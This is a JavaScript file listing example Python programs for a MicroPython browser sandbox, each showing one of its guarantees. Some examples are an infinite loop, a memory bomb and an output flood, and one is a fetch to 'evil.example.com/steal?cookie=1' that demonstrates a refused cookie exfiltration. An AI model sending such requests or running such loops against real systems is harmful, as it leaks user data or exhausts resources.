// The Examples menu: each one shows off a guarantee of the sandbox. `ends` is the result it should
// end with (the result bar's data-state) and `shows` text its output should contain; both are checked
// by tests/runtimes/playground.mjs.
export const EXAMPLES = [
  {
    id: "hello",
    title: "Hello",
    ends: "ok",
    shows: "Hello from MicroPython",
    code: `# Press Run (or Ctrl/Cmd+Enter). Every run has capped memory,
# a time limit and a fuel budget (see Limits): nothing it
# does can freeze or crash this page.
import sys

print("Hello from MicroPython", ".".join(str(n) for n in sys.implementation.version[:3]))
squares = [n * n for n in range(10)]
print("squares:", squares, "sum:", sum(squares))
`,
  },
  {
    id: "json",
    title: "Reshape data with json",
    ends: "ok",
    shows: '"core" -> {',
    code: `# Reshape data: parse JSON, group it, print it back as JSON.
import json

raw = """[
  {"name": "Ada", "team": "core", "commits": 120},
  {"name": "Grace", "team": "tools", "commits": 75},
  {"name": "Linus", "team": "core", "commits": 48},
  {"name": "Barbara", "team": "docs", "commits": 31},
  {"name": "Ken", "team": "tools", "commits": 12}
]"""

teams = {}
for person in json.loads(raw):
    team = teams.setdefault(person["team"], {"members": [], "commits": 0})
    team["members"].append(person["name"])
    team["commits"] += person["commits"]

for name in sorted(teams, key=lambda t: -teams[t]["commits"]):
    print(json.dumps(name), "->", json.dumps(teams[name]))
`,
  },
  {
    id: "stdlib",
    title: "The standard library (dataclass, Counter, datetime, re ...)",
    ends: "ok",
    shows: "top page: ('/home', 3)",
    code: `# CPython's standard library, written for the sandbox and frozen into it:
# dataclasses, collections, datetime, re, statistics, textwrap, json, ...
from collections import Counter
from dataclasses import dataclass
from datetime import date, timedelta
import re, statistics, textwrap

@dataclass(frozen=True)
class Visit:
    day: date
    page: str
    ms: int

log = """2024-03-01 /home 120
2024-03-01 /docs 340
2024-03-02 /home 95
2024-03-04 /pricing 410
2024-03-04 /home 130"""
visits = [Visit(date.fromisoformat(d), page, int(ms))
          for d, page, ms in re.findall(r"(\\S+) (\\S+) (\\d+)", log)]

print(visits[0])
print("top page:", Counter(v.page for v in visits).most_common(1)[0])
last = visits[-1].day
print("span:", (last - visits[0].day).days, "days; a week later:",
      (last + timedelta(weeks=1)).strftime("%a %d %b %Y"))
times = [v.ms for v in visits]
print("median %d ms, stdev %.1f ms" % (statistics.median(times), statistics.stdev(times)))
print(textwrap.fill("Each module follows CPython 3.11 and is checked "
                    "against CPython's own output.", width=36))
`,
  },
  {
    id: "loop",
    title: "Infinite loop (timeout, Stop)",
    ends: "timeout",
    shows: "timed out",
    code: `# An infinite loop. It runs in a Worker, so the page stays
# responsive: type, scroll, press Stop. The timeout ends it,
# or a fuel budget (Limits) deterministically.
n = 0
while True:
    n += 1
`,
  },
  {
    id: "memory",
    title: "Memory bomb",
    ends: "memory",
    shows: "MemoryError",
    code: `# A memory bomb: 1 MiB blocks until the memory cap (Limits)
# says no. It ends in a MemoryError; the next run just works.
blocks = []
while True:
    blocks.append(bytearray(1024 * 1024))
    print(len(blocks), "MiB")
`,
  },
  {
    id: "recursion",
    title: "Deep recursion",
    ends: "ok",
    shows: "maximum recursion depth exceeded",
    code: `# Deep recursion: a clean RuntimeError, not a crashed stack.
deepest = 0

def down(n):
    global deepest
    deepest = n
    return down(n + 1)

try:
    down(1)
except RuntimeError as e:
    print("RuntimeError:", e, "at depth", deepest)
`,
  },
  {
    id: "flood",
    title: "Output flood",
    ends: "output",
    shows: "output exceeded",
    code: `# An output flood: prints forever. Output is capped (Limits:
# max output); then the run stops, or the rest is dropped.
# The page shows it as it arrives, without stalling.
i = 0
while True:
    print("line", i, "spam " * 10)
    i += 1
`,
  },
  {
    id: "fetch",
    title: "Host function (fetch_json)",
    ends: "ok",
    shows: "not approved",
    code: `# A host function: the page gives Python one async JS
# function, fetch_json, that answers approved URLs only (from
# a local fixture). Python has no other way to the network.
data = await fetch_json("https://api.example.com/weather/oslo")
print(data["city"], "forecast:")
for day in data["forecast"]:
    print("  {:<10} {:>3} C  {}".format(day["date"], day["high"], day["sky"]))

try:
    await fetch_json("https://evil.example.com/steal?cookie=1")
except Exception as e:
    print("refused:", e)
`,
  },
  {
    id: "files",
    title: "Mounted file",
    ends: "ok",
    shows: "read-only",
    code: `# A mounted file: the page mounted /data/sales.csv read-only;
# /tmp is writable scratch space.
import os

print("files in /data:", os.listdir("/data"))
totals = {}
with open("/data/sales.csv") as f:
    f.readline()  # header
    for line in f:
        region, product, amount = line.strip().split(",")
        totals[region] = totals.get(region, 0) + float(amount)
for region in sorted(totals):
    print("{:<8} {:>9.2f}".format(region, totals[region]))

try:
    open("/data/sales.csv", "w")
except OSError as e:
    print("read-only:", e)

with open("/tmp/report.txt", "w") as f:
    f.write(repr(totals))
size = os.stat("/tmp/report.txt")[6]
print("wrote /tmp/report.txt:", size, "bytes")
`,
  },
  {
    id: "traceback",
    title: "A traceback (click its lines)",
    ends: "python",
    shows: "ZeroDivisionError",
    code: `# An uncaught exception: each File "<stdin>", line N in the
# traceback is a link to that line.
def average(values):
    return sum(values) / len(values)

print(average([3, 4, 5]))
print(average([]))
`,
  },
];
